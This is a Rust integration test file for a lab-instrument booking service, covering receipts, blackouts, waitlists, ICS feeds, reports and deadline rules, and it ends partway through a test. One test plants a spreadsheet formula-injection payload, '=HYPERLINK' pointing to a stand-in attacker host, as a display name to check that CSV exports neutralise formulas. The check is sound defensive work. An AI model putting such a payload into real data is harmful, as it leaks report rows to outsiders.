//! Booking beyond the core: settlement and receipts, blackouts, weekly
//! series, the waitlist, favourites with substitutes, quick booking, similar
//! instruments, ICS feeds (checked with a real iCalendar parser) and the
//! reminder cron.

use commons_tests::*;
use serde_json::{json, Value};

async fn book(c: &reqwest::Client, req: Value) -> reqwest::Response {
    post_booking(c, &req).await
}

fn req(instrument: i64, slot: &(String, String), payment: &str) -> Value {
    booking_req(instrument, slot, payment)
}

async fn signed_in(tag: &str) -> (reqwest::Client, Value) {
    let c = client();
    let u = register(&c, &unique_email(tag), tag, "password-123").await;
    (c, u)
}

async fn notifications(c: &reqwest::Client) -> Value {
    get_json(c, "/api/me/notifications").await
}

/// The header of the local stacks' test clock: the Worker judges a settlement
/// as if it were sent at this RFC 3339 time (`cargo xtask` sets `TEST_CLOCK=1`
/// on the stacks it starts; production has no such variable).
const TEST_NOW: &str = "x-commons-test-now";

/// A time after every booking a test can make (the horizon is 60 days), for
/// settling bookings "after the experiment ran".
fn after_the_experiments() -> String {
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() as i64;
    commons_domain::common::locale::rfc3339_utc(now + 90 * 86_400)
}

/// `POST /api/bookings/{bid}/complete` as `c`, once the experiment has run:
/// staff settle a booking with it, and others are refused.
fn complete(c: &reqwest::Client, bid: &str, body: Value) -> reqwest::RequestBuilder {
    complete_now(c, bid, body).header(TEST_NOW, after_the_experiments())
}

/// `POST /api/bookings/{bid}/complete` as `c`, at the real time.
fn complete_now(c: &reqwest::Client, bid: &str, body: Value) -> reqwest::RequestBuilder {
    c.post(url(&format!("/api/bookings/{bid}/complete"))).json(&body)
}

#[tokio::test]
async fn completion_settles_the_quota_and_numbers_cash_receipts_per_centre() {
    let id = free_instrument_at("ntust-ic").await;
    let (staff, _) = user_with_role("settle-staff", "facility_staff", Some("ntust-ic")).await;
    let (payer, _) = signed_in("cash-payer").await;
    let mut numbers = Vec::new();
    for hour in [9, 11] {
        let r = book(&payer, req(id, &weekday_slot(31, hour, 1), "cash")).await;
        assert_eq!(r.status(), 201);
        let b: Value = r.json().await.unwrap();
        let bid = b["booking"]["id"].as_str().unwrap().to_string();
        // The booker cannot settle their own booking.
        expect_refusal(complete(&payer, &bid, json!({})), 403, "forbidden").await;
        let r = complete(&staff, &bid, json!({})).send().await.unwrap();
        assert_eq!(r.status(), 200);
        let done: Value = r.json().await.unwrap();
        assert_eq!(done["booking"]["status"], "completed");
        assert_eq!(done["receipt"]["amount"], b["booking"]["estimated_cost"]);
        assert_eq!(done["receipt"]["payer_name"], "cash-payer");
        numbers.push(done["receipt"]["number"].as_i64().unwrap());
        expect_refusal(complete(&staff, &bid, json!({})), 409, "conflict").await;
    }
    assert_eq!(numbers[1], numbers[0] + 1, "running numbers per centre: {numbers:?}");

    // Quota: the reservation is trued up to the actual cost.
    let (pi, _) = pi_with_quota("settle-pi", 50000).await;
    let r = book(&pi, req(id, &weekday_slot(31, 14, 2), "quota")).await;
    let b: Value = r.json().await.unwrap();
    let bid = b["booking"]["id"].as_str().unwrap().to_string();
    let estimate = b["booking"]["estimated_cost"].as_i64().unwrap();
    let actual = estimate / 2;
    let r = complete(&staff, &bid, json!({"actual_cost": actual})).send().await.unwrap();
    let done: Value = r.json().await.unwrap();
    assert_eq!(done["receipt"], Value::Null, "quota bookings get no cash receipt");
    assert_eq!(done["booking"]["actual_cost"].as_i64(), Some(actual));
    let q: Value = get_json(&pi, "/api/me/quota").await;
    assert_eq!(q["quotas"][0]["balance"].as_i64(), Some(50000 - actual));
    assert_eq!(q["quotas"][0]["ledger_sum"], q["quotas"][0]["balance"]);
}

#[tokio::test]
async fn a_blackout_refuses_bookings_and_cannot_bury_active_ones() {
    let id = free_instrument_at("ncu-ic").await;
    let (staff, _) = user_with_role("bo-staff", "facility_staff", Some("ncu-ic")).await;
    let (other, _) = user_with_role("bo-other", "facility_staff", Some("ntu-ic")).await;
    let day = (weekday_slot(32, 9, 0).0, weekday_slot(32, 17, 0).0);
    let body = json!({"instrument_id": id, "start": day.0, "end": day.1, "reason": "年度保養"});
    expect_refusal(other.post(url("/api/centers/ncu-ic/blackouts")).json(&body), 403, "forbidden").await;
    assert_eq!(staff.post(url("/api/centers/ncu-ic/blackouts")).json(&body).send().await.unwrap().status(), 204);
    let (user, _) = signed_in("bo-user").await;
    expect_error(book(&user, req(id, &weekday_slot(32, 10, 1), "cash")).await, 409, "slot_taken").await;
    let cal: Value = get_json(&client(), &format!("/api/instruments/{id}/calendar?from={}&to={}", day.0, day.1)).await;
    assert_eq!(cal["busy"][0]["kind"], "blackout");
    // A blackout over an active booking is refused, and the booking stays.
    assert_eq!(book(&user, req(id, &weekday_slot(33, 10, 1), "cash")).await.status(), 201);
    let day2 = json!({"instrument_id": id, "start": weekday_slot(33, 9, 0).0, "end": weekday_slot(33, 17, 0).0});
    expect_refusal(staff.post(url("/api/centers/ncu-ic/blackouts")).json(&day2), 409, "conflict").await;
    let mine: Value = get_json(&user, "/api/me/bookings").await;
    assert_eq!(mine["bookings"][0]["status"], "confirmed");
}

#[tokio::test]
async fn a_weekly_series_is_stored_whole_refused_whole_and_cancelled_one_week_at_a_time() {
    let id = free_instrument(5).await;
    let (a, _) = signed_in("series-a").await;
    let (b, _) = signed_in("series-b").await;
    let first = weekday_slot(2, 13, 1);
    // Someone already holds week 3.
    let week3 = weekday_slot(2, 13, 1);
    let shift = |s: &str, weeks: i64| {
        let t = commons_domain::common::locale::parse_rfc3339(s).unwrap() + weeks * 7 * 86_400;
        commons_domain::common::locale::rfc3339_utc(t)
    };
    let taken = (shift(&week3.0, 2), shift(&week3.1, 2));
    assert_eq!(book(&b, req(id, &taken, "cash")).await.status(), 201);
    let mut series = req(id, &first, "cash");
    series["repeat_weeks"] = json!(4);
    expect_error(book(&a, series.clone()).await, 409, "slot_taken").await;
    let mine: Value = get_json(&a, "/api/me/bookings").await;
    assert_eq!(mine["meta"]["total"], 0, "a refused series leaves nothing behind");

    // Two weeks fit before the taken one.
    series["repeat_weeks"] = json!(2);
    let r = book(&a, series).await;
    assert_eq!(r.status(), 201);
    let made: Value = r.json().await.unwrap();
    let list = made["bookings"].as_array().cloned().unwrap_or_default();
    assert_eq!(list.len(), 2);
    assert_eq!(list[0]["series_id"], list[1]["series_id"]);
    assert_eq!(list[1]["start"], shift(&first.0, 1));
    let one = list[0]["id"].as_str().unwrap();
    assert_eq!(a.post(url(&format!("/api/bookings/{one}/cancel"))).send().await.unwrap().status(), 200);
    let mine: Value = get_json(&a, "/api/me/bookings").await;
    let active = mine["bookings"].as_array().unwrap().iter().filter(|b| b["status"] == "confirmed").count();
    assert_eq!(active, 1, "only the one week was cancelled");
    let mut bad = req(id, &first, "cash");
    bad["repeat_weeks"] = json!(40);
    expect_error(book(&a, bad).await, 422, "invalid").await;
}

#[tokio::test]
async fn the_waitlist_is_notified_in_order_when_a_slot_frees() {
    let id = free_instrument(6).await;
    let slot = weekday_slot(34, 10, 2);
    let (holder, _) = signed_in("holder").await;
    let (first, _) = signed_in("waiter-1").await;
    let (second, _) = signed_in("waiter-2").await;
    let r = book(&holder, req(id, &slot, "cash")).await;
    let b: Value = r.json().await.unwrap();
    let bid = b["booking"]["id"].as_str().unwrap().to_string();
    expect_error(book(&first, req(id, &slot, "cash")).await, 409, "slot_taken").await;
    let wait = json!({"instrument_id": id, "start": slot.0, "end": slot.1});
    assert_eq!(first.post(url("/api/waitlist")).json(&wait).send().await.unwrap().status(), 204);
    assert_eq!(second.post(url("/api/waitlist")).json(&wait).send().await.unwrap().status(), 204);
    // Waiting for free time makes no sense.
    let free = json!({"instrument_id": id, "start": weekday_slot(34, 14, 1).0, "end": weekday_slot(34, 14, 1).1});
    expect_refusal(first.post(url("/api/waitlist")).json(&free), 409, "conflict").await;
    assert_eq!(notifications(&first).await["unread"], 0);

    assert_eq!(holder.post(url(&format!("/api/bookings/{bid}/cancel"))).send().await.unwrap().status(), 200);
    let n1 = notifications(&first).await;
    let n2 = notifications(&second).await;
    assert_eq!(n1["unread"], 1);
    assert_eq!(n1["notifications"][0]["kind"], "waitlist_slot_free");
    assert_eq!(n1["notifications"][0]["params"]["position"], 1);
    assert_eq!(n2["notifications"][0]["params"]["position"], 2);
    assert_eq!(first.post(url("/api/me/notifications/read")).send().await.unwrap().status(), 204);
    assert_eq!(notifications(&first).await["unread"], 0);
    // The first waiter books the freed slot.
    assert_eq!(book(&first, req(id, &slot, "cash")).await.status(), 201);
}

#[tokio::test]
async fn a_full_favourite_offers_its_free_substitutes() {
    let inst = instruments_where(false, false).await;
    let (fav, s1, s2) =
        (inst[7]["id"].as_i64().unwrap(), inst[8]["id"].as_i64().unwrap(), inst[9]["id"].as_i64().unwrap());
    let (me, _) = signed_in("fav").await;
    let (other, _) = signed_in("fav-other").await;
    let r =
        me.put(url(&format!("/api/me/favorites/{fav}"))).json(&json!({"substitutes": [s1, s2]})).send().await.unwrap();
    assert_eq!(r.status(), 204);
    expect_refusal(
        me.put(url(&format!("/api/me/favorites/{fav}"))).json(&json!({"substitutes": [fav]})),
        422,
        "invalid",
    )
    .await;
    let slot = weekday_slot(35, 10, 1);
    let ask = |c: &reqwest::Client| c.get(url(&format!("/api/me/favorites?start={}&end={}", slot.0, slot.1))).send();
    let v: Value = ask(&me).await.unwrap().json().await.unwrap();
    assert_eq!(v["favorites"][0]["free"], true);
    assert_eq!(
        v["favorites"][0]["free_substitutes"],
        json!([]),
        "substitutes are offered only when the favourite is full"
    );

    assert_eq!(book(&other, req(fav, &slot, "cash")).await.status(), 201);
    assert_eq!(book(&other, req(s1, &slot, "cash")).await.status(), 201);
    let v: Value = ask(&me).await.unwrap().json().await.unwrap();
    assert_eq!(v["favorites"][0]["free"], false);
    let offered: Vec<i64> =
        v["favorites"][0]["free_substitutes"].as_array().unwrap().iter().filter_map(|i| i["id"].as_i64()).collect();
    assert_eq!(offered, vec![s2]);

    // Quick booking shows favourites first.
    let q: Value = get_json(&me, "/api/me/quick-instruments").await;
    assert_eq!(q["source"], "favorites");
    assert_eq!(me.delete(url(&format!("/api/me/favorites/{fav}"))).send().await.unwrap().status(), 204);
    expect_refusal(me.delete(url(&format!("/api/me/favorites/{fav}"))), 404, "not_found").await;
}

#[tokio::test]
async fn quick_booking_lists_the_most_booked_instruments_without_favourites() {
    let inst = instruments_where(false, false).await;
    let (x, y) = (inst[10]["id"].as_i64().unwrap(), inst[11]["id"].as_i64().unwrap());
    let (me, _) = signed_in("quick").await;
    let q: Value = get_json(&me, "/api/me/quick-instruments").await;
    assert_eq!((q["source"].as_str(), q["instruments"].as_array().map(Vec::len)), (Some("most_booked"), Some(0)));
    for (id, hour) in [(x, 9), (x, 11), (y, 13)] {
        assert_eq!(book(&me, req(id, &weekday_slot(36, hour, 1), "cash")).await.status(), 201);
    }
    let q: Value = get_json(&me, "/api/me/quick-instruments").await;
    let ids: Vec<i64> = q["instruments"].as_array().unwrap().iter().filter_map(|i| i["id"].as_i64()).collect();
    assert_eq!(ids, vec![x, y]);
}

#[tokio::test]
async fn similar_instruments_share_the_category() {
    let inst = all_instruments().await;
    let me = &inst[0];
    let v: Value = get_json(&client(), &format!("/api/instruments/{}/similar", me["id"])).await;
    let list = v["instruments"].as_array().cloned().unwrap_or_default();
    assert!(!list.is_empty());
    for i in &list {
        assert_eq!(i["category"], me["category"]);
        assert_ne!(i["id"], me["id"]);
    }
}

#[tokio::test]
async fn ics_feeds_parse_and_show_taipei_times() {
    let id = free_instrument(12).await;
    let (me, _) = signed_in("ics").await;
    let slot = weekday_slot(37, 10, 2);
    assert_eq!(book(&me, req(id, &slot, "cash")).await.status(), 201);
    let feed: Value = get_json(&me, "/api/me/calendar-feed").await;
    let bookings_url = feed["bookings_url"].as_str().unwrap().to_string();
    // The URL is the secret: no cookie needed, and a wrong token is 404.
    let r = reqwest::get(&bookings_url).await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/calendar"));
    let text = r.text().await.unwrap();
    let cal = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes()))
        .next()
        .expect("one calendar")
        .expect("parses as iCalendar");
    assert_eq!(cal.events.len(), 1);
    let prop = |name: &str| {
        cal.events[0].properties.iter().find(|p| p.name == name).and_then(|p| p.value.clone()).unwrap_or_default()
    };
    // 10:00 in Taipei is 02:00 UTC.
    let start = commons_domain::common::locale::parse_rfc3339(&slot.0).unwrap();
    let local = commons_domain::common::locale::to_taipei(start).unwrap();
    assert_eq!((local.hour(), local.minute()), (10, 0));
    let dt = prop("DTSTART");
    assert!(dt.ends_with("T020000Z"), "{dt}");
    assert_eq!(&dt[..8], slot.0[..10].replace('-', ""));
    assert!(prop("SUMMARY").len() > 3);
    let wrong = bookings_url.replace("/api/ics/", "/api/ics/x");
    assert_eq!(reqwest::get(&wrong).await.unwrap().status(), 404);

    let inst_url = feed["instrument_url_template"].as_str().unwrap().replace("{id}", &id.to_string());
    let text = reqwest::get(&inst_url).await.unwrap().text().await.unwrap();
    let cal = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes())).next().unwrap().unwrap();
    assert!(!cal.events.is_empty());
}

#[tokio::test]
async fn the_reminder_cron_notifies_the_day_before_once() {
    let id = free_instrument(13).await;
    let (me, _) = signed_in("remind").await;
    let slot = weekday_slot(38, 15, 1);
    assert_eq!(book(&me, req(id, &slot, "cash")).await.status(), 201);
    let start = commons_domain::common::locale::parse_rfc3339(&slot.0).unwrap();
    // Run the reminder job as the cron trigger would, 20 hours before the start.
    // (wrangler dev cannot fire cron events at a Worker that has static assets:
    // its asset router forwards them as RPC and fails, so the admin endpoint
    // runs the very same job function.)
    let at = commons_domain::common::locale::rfc3339_utc(start - 20 * 3600);
    let admin = admin().await;
    let fire = || admin.post(url("/api/admin/jobs/reminders")).json(&json!({ "at": at })).send();
    let r: Value = fire().await.unwrap().json().await.unwrap();
    assert!(r["processed"].as_u64().unwrap_or(0) >= 1, "{r}");
    let n = notifications(&me).await;
    let reminders: Vec<&Value> =
        n["notifications"].as_array().unwrap().iter().filter(|x| x["kind"] == "booking_reminder").collect();
    assert_eq!(reminders.len(), 1, "{n}");
    assert_eq!(reminders[0]["params"]["start"], slot.0);
    // Running again sends nothing new, and members cannot run jobs.
    assert_eq!(fire().await.unwrap().status(), 200);
    expect_refusal(me.post(url("/api/admin/jobs/reminders")).json(&json!({})), 403, "forbidden").await;
    let n = notifications(&me).await;
    assert_eq!(n["notifications"].as_array().unwrap().iter().filter(|x| x["kind"] == "booking_reminder").count(), 1);
}

#[tokio::test]
async fn the_centre_day_view_shows_every_instrument_and_staff_see_who_booked() {
    let id = free_instrument_at("cycu-ic").await;
    let (me, _) = signed_in("day-booker").await;
    let slot = weekday_slot(39, 11, 1);
    assert_eq!(book(&me, req(id, &slot, "cash")).await.status(), 201);
    let start = commons_domain::common::locale::parse_rfc3339(&slot.0).unwrap();
    let date = commons_domain::common::locale::to_taipei(start).map(|t| t.date().to_string()).unwrap();
    let day = get_json(&client(), &format!("/api/centers/cycu-ic/day?date={date}")).await;
    let centre: Value = get_json(&client(), "/api/centers").await;
    let count = centre["centers"].as_array().unwrap().iter().find(|c| c["id"] == "cycu-ic").unwrap()
        ["instrument_count"]
        .clone();
    assert_eq!(day["columns"].as_array().map(|c| c.len() as u64), count.as_u64());
    let col = day["columns"].as_array().unwrap().iter().find(|c| c["instrument"]["id"] == id).unwrap();
    assert_eq!(col["busy"][0]["start"], slot.0);
    expect_refusal(client().get(url("/api/centers/cycu-ic/day?date=2026-13-01")), 422, "invalid").await;
    expect_refusal(client().get(url(&format!("/api/centers/nowhere/day?date={date}"))), 404, "not_found").await;

    let (staff, _) = user_with_role("day-staff", "facility_staff", Some("cycu-ic")).await;
    let mut found = false;
    for page in 1..20 {
        let list =
            get_json(&staff, &format!("/api/centers/cycu-ic/bookings?status=confirmed&per_page=100&page={page}")).await;
        let items = list["bookings"].as_array().cloned().unwrap_or_default();
        assert!(items.iter().all(|b| b["status"] == "confirmed"));
        found |= items.iter().any(|b| b["booker_name"] == "day-booker" && b["start"] == slot.0);
        if found || items.is_empty() {
            break;
        }
    }
    assert!(found, "staff see the booking with its booker's name");
    expect_refusal(me.get(url("/api/centers/cycu-ic/bookings")), 403, "forbidden").await;
}

#[tokio::test]
async fn every_report_agrees_with_the_bookings_and_payments_it_summarises() {
    // Weekdays 40-41 at one centre belong to this test, so the expected figures are exact.
    let inst = instruments_where(false, false).await;
    let at: Vec<&Value> = inst.iter().filter(|i| i["center_id"] == "nthu-ic").take(2).collect();
    assert_eq!(at.len(), 2);
    let (staff, _) = user_with_role("rep-staff", "facility_staff", Some("nthu-ic")).await;
    let (pi, _) = pi_with_quota("rep-pi", 1_000_000).await;
    let (cash, _) = signed_in("rep-cash").await;
    let mut expected_total = 0;
    let mut expected_cash = 0;
    let mut expected_hours = 0.0;
    let plan = [(&pi, 0, 9, 2, "quota"), (&pi, 1, 13, 1, "quota"), (&cash, 0, 14, 3, "cash"), (&cash, 1, 9, 1, "cash")];
    for (n, (who, k, hour, hours, payment)) in plan.iter().enumerate() {
        let id = at[*k]["id"].as_i64().unwrap();
        let bid = booking_id(who, &booking_req(id, &weekday_slot(40 + (n as i64 % 2), *hour, *hours), payment)).await;
        let actual = 1000 * (n as i64 + 1);
        let r = complete(&staff, &bid, json!({"actual_cost": actual})).send().await.unwrap();
        assert_eq!(r.status(), 200);
        expected_total += actual;
        expected_hours += *hours as f64;
        if *payment == "cash" {
            expected_cash += actual;
        }
    }
    let (from, to) = (weekday_slot(40, 0, 0).0, weekday_slot(41, 23, 0).0);
    let report = |kind: &str, extra: &str| {
        let staff = staff.clone();
        let path = format!("/api/reports/{kind}?center=nthu-ic&from={from}&to={to}{extra}");
        async move { staff.get(url(&path)).send().await.unwrap() }
    };
    let col = |r: &Value, name: &str| r["columns"].as_array().unwrap().iter().position(|c| c == name).unwrap();
    for def in commons_domain::booking::reports::REPORTS {
        let r: Value = report(def.kind, "").await.json().await.unwrap();
        // Totals are the sums of their rows.
        for &c in def.summed {
            let sum: f64 = r["rows"].as_array().unwrap().iter().map(|row| row[c].as_f64().unwrap_or(0.0)).sum();
            assert!((r["totals"][c].as_f64().unwrap() - sum).abs() < 0.01, "{} column {c}", def.kind);
        }
        // And the sums agree with what was booked and paid.
        let amount_total = r["totals"][col(&r, "amount")].as_i64().unwrap_or(-1);
        match def.kind {
            "cash_payment_details" | "cash_payment_stats" | "pi_cash_payments" => {
                assert_eq!(amount_total, expected_cash, "{}", def.kind)
            }
            _ => assert_eq!(amount_total, expected_total, "{}", def.kind),
        }
        if let Some(h) = r["columns"].as_array().unwrap().iter().position(|c| c == "hours") {
            assert!((r["totals"][h].as_f64().unwrap() - expected_hours).abs() < 0.01, "{} hours", def.kind);
        }
    }
    let stats: Value = report("center_service_stats", "").await.json().await.unwrap();
    assert_eq!(stats["totals"][col(&stats, "cash_amount")].as_i64(), Some(expected_cash));
    assert_eq!(stats["totals"][col(&stats, "quota_amount")].as_i64(), Some(expected_total - expected_cash));
    let receipts: Value = report("cash_payment_details", "").await.json().await.unwrap();
    assert_eq!(receipts["rows"].as_array().unwrap().len(), 2);

    // The CSV opens with the same numbers: same rows, and the totals row at the end.
    let r = report("instrument_service_stats", "&format=csv").await;
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let text = r.text().await.unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut rd = csv::Reader::from_reader(text.as_bytes());
    let header = rd.headers().unwrap().clone();
    assert_eq!(&header[0], "儀器");
    let records: Vec<csv::StringRecord> = rd.records().map(|x| x.unwrap()).collect();
    let json: Value = report("instrument_service_stats", "").await.json().await.unwrap();
    assert_eq!(records.len(), json["rows"].as_array().unwrap().len() + 1);
    let last = records.last().unwrap();
    assert_eq!(&last[0], "合計");
    assert_eq!(last[5].parse::<i64>().unwrap(), expected_total);

    // Only the centre's staff (or an admin for all centres) may see it.
    let (other, _) = user_with_role("rep-other", "facility_staff", Some("ntu-ic")).await;
    expect_refusal(
        other.get(url(&format!("/api/reports/instrument_service_stats?center=nthu-ic&from={from}&to={to}"))),
        403,
        "forbidden",
    )
    .await;
    expect_refusal(
        staff.get(url(&format!("/api/reports/instrument_service_stats?from={from}&to={to}"))),
        403,
        "forbidden",
    )
    .await;
    let r =
        admin().await.get(url(&format!("/api/reports/center_service_stats?from={from}&to={to}"))).send().await.unwrap();
    assert_eq!(r.status(), 200);
    expect_refusal(staff.get(url(&format!("/api/reports/nope?center=nthu-ic&from={from}&to={to}"))), 404, "not_found")
        .await;
    expect_refusal(staff.get(url("/api/reports/cash_payment_stats?center=nthu-ic&from=x&to=y")), 422, "invalid").await;
}

#[tokio::test]
async fn cancelling_inside_the_deadline_is_for_staff_only() {
    let id = free_instrument_at("tmu-ic").await;
    let (staff, _) = user_with_role("dl-staff", "facility_staff", Some("tmu-ic")).await;
    let (me, _) = signed_in("dl-user").await;
    // The centre closes self-cancellation 60 days ahead, so a booking ~4 weeks out is inside the deadline.
    expect_refusal(
        me.patch(url(&format!("/api/instruments/{id}"))).json(&json!({"cancel_hours": 1440})),
        403,
        "forbidden",
    )
    .await;
    let r =
        staff.patch(url(&format!("/api/instruments/{id}"))).json(&json!({"cancel_hours": 1440})).send().await.unwrap();
    assert_eq!(r.status(), 200);
    expect_refusal(
        staff.patch(url(&format!("/api/instruments/{id}"))).json(&json!({"min_minutes": 45})),
        422,
        "invalid",
    )
    .await;
    let inside = booking_id(&me, &booking_req(id, &weekday_slot(20, 15, 1), "cash")).await;
    // My bookings name the centre and say until when I may cancel alone.
    let mine = get_json(&me, "/api/me/bookings").await;
    let row = mine["bookings"].as_array().and_then(|l| l.iter().find(|b| b["id"] == inside.as_str())).cloned();
    let row = row.expect("the booking is in my list");
    assert!(row["center_name"].as_str().is_some_and(|s| !s.is_empty()), "{row}");
    let at = |k: &str| commons_domain::common::locale::parse_rfc3339(row[k].as_str().unwrap_or_default());
    assert_eq!(at("cancel_deadline").zip(at("start")).map(|(d, s)| s - d), Some(1440 * 3600), "{row}");
    // Too late is a conflict with the booking's time that says so, not a missing permission.
    let refused = expect_refusal(me.post(url(&format!("/api/bookings/{inside}/cancel"))), 409, "conflict").await;
    let why = refused["message"].as_str().unwrap_or_default();
    assert!(why.starts_with("cancellation closed") && why.contains("1440 hours"), "{why}");
    assert_eq!(get_json(&me, &format!("/api/bookings/{inside}")).await["booking"]["status"], "confirmed");
    // The centre may still cancel, and the booker is told.
    assert_eq!(staff.post(url(&format!("/api/bookings/{inside}/cancel"))).send().await.unwrap().status(), 200);
    let n = get_json(&me, "/api/me/notifications").await;
    assert_eq!(n["notifications"][0]["kind"], "booking_cancelled_by_centre");
    // Outside the deadline (back to 24 hours) the booker cancels alone.
    staff.patch(url(&format!("/api/instruments/{id}"))).json(&json!({"cancel_hours": 24})).send().await.unwrap();
    let outside = booking_id(&me, &booking_req(id, &weekday_slot(20, 16, 1), "cash")).await;
    assert_eq!(me.post(url(&format!("/api/bookings/{outside}/cancel"))).send().await.unwrap().status(), 200);
}

// Hardening (issue 12). Each test below owns its instruments: the first
// bookable instrument of a centre no other test of this file books at
// (ntou-ic, ntnu-ic, nycu-ic, ntu-ic), so the exact counts hold.

/// Every cell of a CSV answer, parsed as a spreadsheet would read the file.
async fn csv_cells(r: reqwest::Response) -> Vec<Vec<String>> {
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let text = r.text().await.unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut rd = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    rd.records().map(|x| x.unwrap().iter().map(str::to_string).collect()).collect()
}

#[tokio::test]
async fn report_csvs_never_hand_a_spreadsheet_a_formula() {
    let id = free_instrument_at("ntou-ic").await;
    let (staff, _) = user_with_role("csv-staff", "facility_staff", Some("ntou-ic")).await;
    let (pi, _) = pi_with_quota("csv-pi", 1_000_000).await;
    let (member, member_user) = signed_in("csv-member").await;
    // Names a spreadsheet would run: a live link that leaks the row, and the other formula starts.
    let payload = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
    let pi_name = "+SUM(1,1)";
    let rename =
        |c: &reqwest::Client, name: &str| c.patch(url("/api/auth/me")).json(&json!({ "display_name": name })).send();
    assert_eq!(rename(&member, payload).await.unwrap().status(), 200);
    assert_eq!(rename(&pi, pi_name).await.unwrap().status(), 200);
    let r = pi.post(url("/api/me/group/members")).json(&json!({"email": member_user["email"]})).send().await.unwrap();
    assert_eq!(r.status(), 204);
    let pi_id = get_json(&pi, "/api/auth/me").await["user"]["id"].as_i64().unwrap();
    let cash = booking_id(&member, &booking_req(id, &weekday_slot(12, 9, 1), "cash")).await;
    let mut quota = booking_req(id, &weekday_slot(12, 11, 1), "quota");
    quota["pi_user_id"] = json!(pi_id);
    let quota = booking_id(&member, &quota).await;
    for bid in [&cash, &quota] {
        assert_eq!(complete(&staff, bid, json!({})).send().await.unwrap().status(), 200);
    }
    let (from, to) = (weekday_slot(12, 0, 0).0, weekday_slot(12, 23, 0).0);
    let mut named = 0;
    for def in commons_domain::booking::reports::REPORTS {
        for lang in ["zh-TW", "en"] {
            let path = format!("/api/reports/{}?center=ntou-ic&from={from}&to={to}&format=csv&lang={lang}", def.kind);
            let cells = csv_cells(staff.get(url(&path)).send().await.unwrap()).await;
            assert!(cells.len() >= 2, "{}: a header and a totals row at least", def.kind);
            for cell in cells.iter().flatten() {
                assert!(
                    !commons_domain::common::csv::is_formula_like(cell),
                    "{} ({lang}) hands a spreadsheet the formula {cell:?}",
                    def.kind
                );
            }
            // The names are still there to read, behind the quote that makes them text.
            let shown = |name: &str| cells.iter().flatten().any(|c| c.trim_start_matches('\'') == name);
            if shown(payload) {
                named += 1;
            }
            if def.kind == "instrument_service_details" || def.kind == "pi_cash_payments" {
                assert!(shown(pi_name), "{} shows the PI", def.kind);
            }
        }
    }
    // Details, receipts, the PI's cash list and the booker list name the booker, in both languages.
    assert!(named >= 8, "the booker's name was readable in {named} reports");
}

#[tokio::test]
async fn an_experiment_is_settled_only_once_it_has_started() {
    let id = free_instrument_at("ntnu-ic").await;
    let (staff, _) = user_with_role("early-staff", "facility_staff", Some("ntnu-ic")).await;
    let (me, _) = signed_in("early-booker").await;
    // About forty days ahead.
    let slot = weekday_slot(28, 10, 1);
    let bid = booking_id(&me, &req(id, &slot, "cash")).await;
    let e = expect_refusal(complete_now(&staff, &bid, json!({})), 409, "conflict").await;
    assert!(e["message"].as_str().unwrap().contains("not started"), "{e}");
    let e = expect_refusal(staff.post(url(&format!("/api/bookings/{bid}/no-show"))), 409, "conflict").await;
    assert!(e["message"].as_str().unwrap().contains("not started"), "{e}");
    let b = get_json(&me, &format!("/api/bookings/{bid}")).await;
    assert_eq!(b["booking"]["status"], "confirmed", "{b}");
    assert_eq!(b["booking"]["actual_cost"], Value::Null, "{b}");
    let (from, to) = (weekday_slot(28, 0, 0).0, weekday_slot(28, 23, 0).0);
    let receipts =
        get_json(&staff, &format!("/api/reports/cash_payment_details?center=ntnu-ic&from={from}&to={to}")).await;
    assert_eq!(receipts["rows"], json!([]), "no receipt for an experiment that has not happened");

    // Once it has started, the same request settles it, with a receipt.
    let started = {
        let s = commons_domain::common::locale::parse_rfc3339(&slot.0).unwrap();
        commons_domain::common::locale::rfc3339_utc(s + 1800)
    };
    let r = complete_now(&staff, &bid, json!({})).header(TEST_NOW, &started).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let done: Value = r.json().await.unwrap();
    assert_eq!(done["booking"]["status"], "completed");
    assert!(done["receipt"]["number"].as_i64().is_some(), "{done}");
    // A no-show, too, is recorded only from the start on.
    let other = booking_id(&me, &req(id, &weekday_slot(28, 13, 1), "cash")).await;
    let no_show = || staff.post(url(&format!("/api/bookings/{other}/no-show")));
    let at = |h: i64| {
        let s = commons_domain::common::locale::parse_rfc3339(&weekday_slot(28, 13, 1).0).unwrap();
        commons_domain::common::locale::rfc3339_utc(s + h)
    };
    expect_refusal(no_show().header(TEST_NOW, at(-60)), 409, "conflict").await;
    assert_eq!(no_show().header(TEST_NOW, at(0)).send().await.unwrap().status(), 200);
}

#[tokio::test]
async fn rotating_the_calendar_feed_retires_the_old_urls() {
    let id = free_instrument_at("nycu-ic").await;
    let (me, _) = signed_in("rotate").await;
    assert_eq!(book(&me, req(id, &weekday_slot(14, 10, 1), "cash")).await.status(), 201);
    let old: Value = get_json(&me, "/api/me/calendar-feed").await;
    let old_bookings = old["bookings_url"].as_str().unwrap().to_string();
    let old_instrument = old["instrument_url_template"].as_str().unwrap().replace("{id}", &id.to_string());
    assert_eq!(reqwest::get(&old_bookings).await.unwrap().status(), 200);
    assert_eq!(reqwest::get(&old_instrument).await.unwrap().status(), 200);

    let r = me.post(url("/api/me/calendar-feed/rotate")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let new: Value = r.json().await.unwrap();
    let new_bookings = new["bookings_url"].as_str().unwrap().to_string();
    assert_ne!(new_bookings, old_bookings);
    // The old URLs are dead at once; the new ones work, and reading the feed again keeps them.
    assert_eq!(reqwest::get(&old_bookings).await.unwrap().status(), 404);
    assert_eq!(reqwest::get(&old_instrument).await.unwrap().status(), 404);
    let text = reqwest::get(&new_bookings).await.unwrap().text().await.unwrap();
    assert!(text.starts_with("BEGIN:VCALENDAR"), "{text}");
    let inst = new["instrument_url_template"].as_str().unwrap().replace("{id}", &id.to_string());
    assert_eq!(reqwest::get(&inst).await.unwrap().status(), 200);
    assert_eq!(get_json(&me, "/api/me/calendar-feed").await, new);
    // Signed out there is nothing to rotate.
